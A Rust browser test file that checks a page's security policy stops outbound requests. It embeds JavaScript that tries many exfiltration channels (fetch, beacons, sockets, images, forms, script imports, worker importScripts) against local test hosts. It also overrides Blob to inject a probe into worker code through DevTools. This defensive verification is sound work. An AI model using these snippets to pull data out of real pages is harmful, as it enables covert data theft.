//! Nothing leaves: whatever is tried, from the page and from inside its worker, reaches no host.
//!
//! The same attempts are made on a page without a policy, where they must get out: an attempt that reaches
//! nobody anywhere would prove nothing.

use serde_json::{Value, json};

use super::{person::Person, site::Site};

/// Ways out that pages and workers have alike. `out` is the address of a host, with a slash.
const ANYWHERE: &str = "
    const settled = attempt => attempt.then(() => 'done', error => String(error));
    const event = (target, ...kinds) => new Promise(done => kinds.forEach(kind => target.addEventListener(kind, () => done(kind))));
    const anywhere = out => [
        settled(fetch(out + 'fetch', { mode: 'no-cors' })),
        settled(fetch(out + 'post', { mode: 'no-cors', method: 'POST', body: 'dump' })),
        settled((async () => { const request = new XMLHttpRequest(); const end = event(request, 'loadend');
            request.open('GET', out + 'xhr'); request.send(); return end; })()),
        settled((async () => event(new WebSocket(out.replace('http', 'ws') + 'socket'), 'open', 'error'))()),
        settled((async () => { const source = new EventSource(out + 'events'); await event(source, 'open', 'error'); source.close(); })()),
    ];";

/// Ways out that only workers have.
const FROM_WORKER: &str = "
    const fromWorker = out => [...anywhere(out), settled((async () => importScripts(out + 'script'))())];";

/// Ways out that only pages have. Those that tell nothing when they fail are known by the policy's own event.
const FROM_PAGE: &str = "
    const element = (name, attributes, parent = document.body) => {
        const made = Object.assign(document.createElement(name), attributes);
        const end = Promise.race([event(made, 'load', 'error'), event(document, 'securitypolicyviolation')]);
        parent.append(made); return settled(end); };
    const submitted = out => {
        const frame = Object.assign(document.createElement('iframe'), { name: 'form-target' }); document.body.append(frame);
        const form = Object.assign(document.createElement('form'), { action: out + 'form', method: 'get', target: 'form-target' });
        document.body.append(form);
        const end = Promise.race([event(document, 'securitypolicyviolation'), event(frame, 'load')]);
        form.submit(); return settled(end); };
    const fromPage = out => [...anywhere(out),
        settled((async () => navigator.sendBeacon(out + 'beacon', 'dump'))()),
        element('img', { src: out + 'image' }),
        element('script', { src: out + 'script' }, document.head),
        element('link', { rel: 'stylesheet', href: out + 'style' }, document.head),
        element('iframe', { src: out + 'frame' }),
        element('object', { data: out + 'object' }),
        settled(new FontFace('stranger', `url(${out}font)`).load()),
        submitted(out),
        settled(import(out + 'module')),
    ];";

/// Starts a worker of this program text, has it try, and gives what came of each attempt.
const IN_WORKER: &str = "
    const program = arguments[1] + '\\nonmessage = async ({ data }) => postMessage(await Promise.all(fromWorker(data)))';
    const worker = new Worker(URL.createObjectURL(new Blob([program])));
    const answer = new Promise((done, fail) => { worker.onmessage = ({ data }) => done(data); worker.onerror = fail; });
    worker.postMessage(arguments[0]);
    return answer;";

/// Put before anything else in a document: the program of every worker made of a blob also listens on a channel,
/// and tries to get out when told to.
const LISTENING_WORKERS: &str = "
    const Original = Blob;
    globalThis.Blob = class extends Original {
        constructor(parts, options) {
            const script = options?.type === 'text/javascript';
            super(script ? [PROBE, '\\n', ...parts] : parts, options);
        }
    };";

#[test]
fn nothing_gets_out_of_the_page() {
    let Some(person) = Person::at_the_page("sealing-page") else { return };
    nothing_gets_out(&person, |out| tries_from_page(&person, out));
}

#[test]
fn nothing_gets_out_of_a_worker_of_a_blob() {
    let Some(person) = Person::at_the_page("sealing-blob") else { return };
    nothing_gets_out(&person, |out| tries_from_worker(&person, out));
}

#[test]
fn nothing_gets_out_of_the_worker_that_reads_dumps() {
    let Some(person) = Person::at_a_browser("sealing-worker") else { return };
    let probe = format!(
        "{{ {ANYWHERE} {FROM_WORKER} const channel = new BroadcastChannel('probe');
        channel.onmessage = async ({{ data }}) => channel.postMessage(await Promise.all(fromWorker(data))); }}"
    );
    let source = LISTENING_WORKERS.replace("PROBE", &json!(probe).to_string());
    let command = json!({ "cmd": "Page.addScriptToEvaluateOnNewDocument", "params": { "source": source } });
    if person.session.vendor("/goog/cdp/execute", &command).is_err() {
        person.cannot("let somebody look into a page's own worker");
        return;
    }
    person.session.go_to(&person.site.address);
    person.waits_for_state("start");
    person
        .session
        .run("globalThis.ours = readoutWorker(); return new Promise(done => { ours.onmessage = () => done() })", &[]);
    nothing_gets_out(&person, |out| {
        let ask = "const channel = new BroadcastChannel('probe');
            const answer = new Promise(done => { channel.onmessage = ({ data }) => done(data); });
            channel.postMessage(arguments[0]); return answer;";
        person.session.run(ask, &[json!(out)])
    });
}

#[test]
fn the_attempts_get_out_where_nothing_forbids_them() {
    let Some(person) = Person::at_a_browser("sealing-control") else { return };
    let folder = tempfile("open-page");
    std::fs::write(folder.join("index.html"), "<!doctype html><title>open</title><body>")
        .expect("a page without policy");
    let open = Site::of(&folder);
    person.session.go_to(&open.address);
    for (tries, ways) in [(tries_from_page as fn(&Person, &str) -> Value, 14), (tries_from_worker, 6)] {
        let stranger = Site::of(&folder);
        tries(&person, &stranger.address);
        let reached = stranger.requests();
        assert!(reached.len() >= ways, "only these got out, so the others prove nothing elsewhere: {reached:#?}");
    }
}

/// Tries to reach a stranger and the page's own host, and looks at what arrived there.
#[track_caller]
fn nothing_gets_out(person: &Person, tries: impl Fn(&str) -> Value) {
    let stranger = Site::of(&tempfile("stranger"));
    let before = person.site.requests();
    for host in [&stranger.address, &person.site.address] {
        let came_of_it = tries(host);
        assert!(came_of_it.as_array().is_some_and(|attempts| attempts.len() >= 6), "not all was tried: {came_of_it}");
    }
    assert_eq!(stranger.requests(), Vec::<String>::new(), "got out to another host");
    assert_eq!(person.site.requests()[before.len()..], Vec::<String>::new(), "got out to its own host");
}

fn tries_from_page(person: &Person, out: &str) -> Value {
    let body = format!("{ANYWHERE} {FROM_PAGE} return Promise.all(fromPage(arguments[0]));");
    person.session.run(&body, &[json!(out)])
}

fn tries_from_worker(person: &Person, out: &str) -> Value {
    person.session.run(IN_WORKER, &[json!(out), json!(format!("{ANYWHERE} {FROM_WORKER}"))])
}

/// An empty folder for this run.
fn tempfile(name: &str) -> std::path::PathBuf {
    let folder = std::env::temp_dir().join(format!("readout-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("a folder for the test");
    folder
}
